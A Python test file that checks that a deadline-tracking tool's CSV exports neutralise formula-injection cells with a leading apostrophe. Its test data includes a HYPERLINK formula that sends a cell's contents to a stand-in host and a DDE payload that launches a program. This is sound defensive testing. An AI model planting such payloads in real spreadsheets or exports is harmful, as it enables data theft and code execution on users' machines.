#!/usr/bin/python3
"""CSV formula injection (#16 item 6), end to end through deadlinectl.

Tasks whose titles start with =, +, -, @ and a unit whose name starts with
= are listed by `tasks`, `agenda` and `report` with --format csv: every such
text cell comes out with a leading apostrophe (OWASP), the rest as they
are; the JSON forms keep the text unchanged.  The CSV is read back with
Python's csv module.  Nothing here sends or listens.
"""
import csv
import io
import json
import os
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.join(os.environ.get("SRCDIR", "."), "tests",
                                "tools"))
from timing import scaled  # noqa: E402
from checks import Checks  # noqa: E402

DEADLINECTL = os.environ.get("DEADLINECTL")
SRCDIR = os.environ.get("SRCDIR")
NOW = "2024-07-15T08:30"
TITLES = ['=HYPERLINK("http://x.invalid/?"&A1,"Báo cáo")', "+84 912 345 678",
          "-1+2", "@SUM(A1:A9)", "Báo cáo quý II - kết quả"]
UNIT_NAME = "=cmd|' /C calc'!A0"

check = Checks()


def ctl(cfg, *args):
    r = subprocess.run([DEADLINECTL, "-c", cfg, "--now", NOW] + list(args),
                       capture_output=True, text=True, timeout=scaled(60))
    if r.returncode != 0:
        raise SystemExit("deadlinectl %s: %s" % (args, r.stderr))
    return r.stdout


def csv_rows(text):
    """The rows of a CSV listing as dicts (its header names the keys)."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def neutral(text):
    """What a cell of text must read as in the CSV."""
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") \
        else text


def main():
    if not DEADLINECTL or not SRCDIR:
        return 77
    with tempfile.TemporaryDirectory() as tmp:
        with open(os.path.join(tmp, "units.ini"), "w") as f:
            f.write("[unit a]\nname = %s\nemail = a@example.gov.vn\n"
                    "[unit b]\nname = Phòng B\nemail = b@example.gov.vn\n"
                    % UNIT_NAME)
        cfg = os.path.join(tmp, "deadlined.ini")
        with open(cfg, "w") as f:
            f.write("[daemon]\nstate_dir = %s\nunits_file = units.ini\n"
                    "[calendar]\ndays_off_file = %s/config/days-off.ini\n"
                    "[report]\nschedule = off\n[http]\nenabled = no\n"
                    % (tmp, SRCDIR))
        ctl(cfg, "init")
        for t in TITLES:
            ctl(cfg, "task", "add", "--due", "2024-07-10", "--unit", "a",
                "--", t)

        rows = csv_rows(ctl(cfg, "tasks", "--format", "csv"))
        got = sorted(r["title"] for r in rows)
        want = sorted(neutral(t) for t in TITLES)
        check(got == want, "tasks csv titles: %r" % got)
        check(sum(r["title"].startswith("'") for r in rows) == 4,
              "four titles neutralised")
        raw = sorted(r["title"] for r in
                     json.loads(ctl(cfg, "tasks", "--format", "json")))
        check(raw == sorted(TITLES), "tasks json unchanged: %r" % raw)

        rows = csv_rows(ctl(cfg, "agenda", "--all", "--format", "csv"))
        check(sorted(r["title"] for r in rows) == want,
              "agenda csv titles: %r" % [r["title"] for r in rows])
        check(all(r["id"].isdigit() for r in rows), "ids stay numbers")

        text = ctl(cfg, "report", "--period", "2024", "--format", "csv")
        rows = csv_rows(text)
        names = {r["unit"]: r["name"] for r in rows}
        check(names.get("a") == neutral(UNIT_NAME),
              "report csv unit name: %r" % names.get("a"))
        check(names.get("TOTAL") == "Tổng cộng", "plain name kept")
        # Five tasks of unit a, due 10/07, overdue on 15/07 (hand count).
        a = [r for r in rows if r["unit"] == "a"][0]
        check(a["due"] == "5" and a["overdue"] == "5",
              "figures stay numbers: due %s overdue %s"
              % (a["due"], a["overdue"]))
        doc = json.loads(ctl(cfg, "report", "--period", "2024", "--format",
                             "json"))
        check([u["name"] for u in doc["units"] if u["unit"] == "a"] ==
              [UNIT_NAME], "report json name unchanged")
    return check.summary()


if __name__ == "__main__":
    sys.exit(main())
